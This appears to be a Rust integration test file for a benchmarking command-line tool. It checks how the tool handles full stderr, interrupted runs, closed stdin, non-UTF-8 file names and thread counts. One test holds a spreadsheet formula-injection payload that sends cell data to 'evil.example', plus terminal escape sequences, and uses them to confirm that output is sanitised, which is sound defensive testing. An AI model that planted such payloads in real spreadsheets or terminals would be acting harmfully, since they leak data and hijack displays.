//! What is said and printed does no harm: neither where nobody can be told, nor to a terminal or a spreadsheet that
//! shows it.

use std::ffi::OsStr;
use std::fs::{self, File};
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};

use crate::killed::{program, scratch, signal, succeeds};

/// Where nothing can be written to.
fn full() -> Option<Stdio> {
    let full = File::options().write(true).open("/dev/full").ok();
    if full.is_none() {
        println!("skipped: there is no /dev/full");
    }
    full.map(Stdio::from)
}

#[test]
fn a_full_standard_error_ends_nothing() {
    let Some(stderr) = full() else { return };
    // A refusal stays one.
    let output = program().args(["figure", "1a", "--bogus"]).stderr(stderr).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    // Going on with a run, which is told, is gone on with.
    let folder = scratch("full-stderr");
    let kept = folder.join("kept");
    let args = ["ensemble", "--samples", "300", "--seeds", "3", "--json", "--checkpoint"];
    let first = succeeds(program().args(args).arg(&kept)).stdout;
    let mut again = program();
    again.args(args).arg(&kept).arg("--resume").stderr(full().unwrap());
    assert!(succeeds(&mut again).stdout == first);
    fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn an_interrupted_run_prints_what_is_done_whatever_becomes_of_standard_error() {
    for wait in [500, 2_000, 8_000] {
        let Some(stderr) = full() else { return };
        let args = ["ensemble", "--samples", "300", "--seeds", "100000", "--json"];
        let child = program().args(args).stderr(stderr).spawn().unwrap();
        std::thread::sleep(Duration::from_millis(wait));
        signal(&child, "INT");
        let output = child.wait_with_output().unwrap();
        // On a slow machine it had not begun to listen, or to do anything.
        if output.status.code() == Some(130) && !output.stdout.is_empty() {
            let found: Value = serde_json::from_slice(&output.stdout).unwrap();
            assert_eq!(found["partial"]["of"], 100_000);
            return;
        }
    }
    panic!("it printed nothing");
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const STEERS: &str = "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}2J";

/// What a run prints and says, whether it succeeds or not.
fn shown(args: &[&str]) -> (String, String) {
    let output = program().args(args).output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (text(output.stdout), text(output.stderr))
}

#[test]
fn names_from_files_steer_no_terminal_and_are_no_formulas() {
    let folder = scratch("steering");
    let write = |name: &str, text: String| {
        fs::write(folder.join(name), text).unwrap();
        folder.join(name).to_str().unwrap().to_owned()
    };
    let quoted = FORMULA.replace('"', "\"\"");
    let law = write("law.csv", format!("model,accuracy,mui\n\"{quoted}\",11.9,5.4\n@SUM(1),25,3\n{STEERS},60,2\n"));
    let results = json!([
        { "metric_id": STEERS, "value": -1, "n_samples": 4, "metadata": { "task": FORMULA } },
        { "metric_id": FORMULA, "value": 1, "n_samples": 4, "metadata": { "task": STEERS } },
    ]);
    let results = write("results.json", results.to_string());
    let bench = json!({
        "contrastive_dataset": "x", "sae_release": STEERS, "sae_id": FORMULA, "contrastive_score_mean": 1,
        "independent_score_mean": 1, "interpretability_score_mean": 1, "total_rows": 3,
        "sae_config": { "d_sae": 16 },
    });
    let bench = write("bench_results.json", bench.to_string());
    let points = write("points.csv", format!("{STEERS},b,c\n1,2,3\n"));
    let report = json!({ "settings": {}, "jobs": [{ "job": STEERS, "rows": [{ "world": STEERS }] }] });
    let report = write("report.json", report.to_string());
    for args in [
        &["mui", "law", &law][..],
        &["measure", "own", &results],
        &["ce-bench", "--results", &bench],
        &["hypervolume", &points],
        &["audit", "--from", &report],
    ] {
        for format in [&[][..], &["--csv"], &["--json"]] {
            let (out, err) = shown(&[args, format].concat());
            let steers = |c: char| c.is_control() && !"\n\r\t".contains(c);
            assert!(!out.contains(steers) && !err.contains(steers), "{args:?} {format:?}: {out}{err}");
            if format == ["--csv"] {
                let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(out.as_bytes());
                let cells =
                    reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
                for cell in cells {
                    let formula = cell.starts_with(['=', '+', '-', '@']);
                    assert!(!formula || cell.parse::<f64>().is_ok(), "{args:?}: {cell}");
                }
            }
        }
    }
    // Numbers stay numbers.
    let (out, _) = shown(&["measure", "own", &results, "--csv"]);
    assert!(out.contains(",-1\n") || out.contains(",-1.0\n"), "{out}");
    fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn a_closed_or_empty_standard_input_holds_no_points() {
    let script = "exec \"$1\" hypervolume - <&-";
    let closed = Command::new("sh").args(["-c", script, "sh", env!("CARGO_BIN_EXE_sfc-bench")]).output().unwrap();
    let empty = program().args(["hypervolume", "-"]).output().unwrap();
    for output in [closed, empty] {
        assert_eq!(output.status.code(), Some(2));
        assert!(output.stdout.is_empty());
        let line = String::from_utf8(output.stderr).unwrap();
        assert!(line.contains("has no points") && line.ends_with("[points.none]\n"), "{line}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn names_of_files_need_not_be_text() {
    let folder = scratch("no-text");
    let golden = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/evaluate/");
    let under = folder.join(OsStr::from_bytes(b"caf\xe9"));
    fs::create_dir(&under).unwrap();
    let (acts, dictionary) = (under.join("acts.npy"), under.join(OsStr::from_bytes(b"d\xff.npy")));
    fs::copy(format!("{golden}acts_f32.npy"), &acts).unwrap();
    fs::copy(format!("{golden}dictionary_few.npy"), &dictionary).unwrap();
    // Its replacement is another file's name.
    fs::write(under.join("d\u{fffd}.npy"), "no array").unwrap();
    let mut command = program();
    command.args(["evaluate", "--json", "--activations"]).arg(&acts).arg("--dictionary").arg(&dictionary);
    let printed = succeeds(&mut command).stdout;
    assert!(serde_json::from_slice::<Value>(&printed).unwrap().is_object());
    let figure = folder.join(OsStr::from_bytes(b"\xff.svg"));
    succeeds(program().args(["figure", "t3", "--out"]).arg(&figure));
    assert!(fs::read(&figure).unwrap().starts_with(b"<svg "));
    fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn there_are_no_more_threads_than_processors() {
    let folder = scratch("threads");
    let (report, packed) = (folder.join("report.json"), folder.join("packed.json.gz"));
    let settings = json!({ "seeds": 1, "world": "scores" });
    let jobs = json!([{ "job": "scores-0", "rows": [] }]);
    fs::write(&report, json!({ "settings": settings, "jobs": jobs }).to_string()).unwrap();
    let mut command = program();
    command.env("RAYON_NUM_THREADS", "100000").args(["audit", "--seeds", "1", "--world", "scores"]);
    succeeds(command.arg("--from").arg(&report).arg("--pack").arg(&packed));
    let mut text = String::new();
    flate2::read::GzDecoder::new(File::open(&packed).unwrap()).read_to_string(&mut text).unwrap();
    let packed: Value = serde_json::from_str(&text).unwrap();
    let processors = std::thread::available_parallelism().unwrap();
    let said = packed["machine"].as_str().unwrap();
    assert!(said.ends_with(&format!(", {processors} threads")), "{said}");
    fs::remove_dir_all(&folder).unwrap();
}
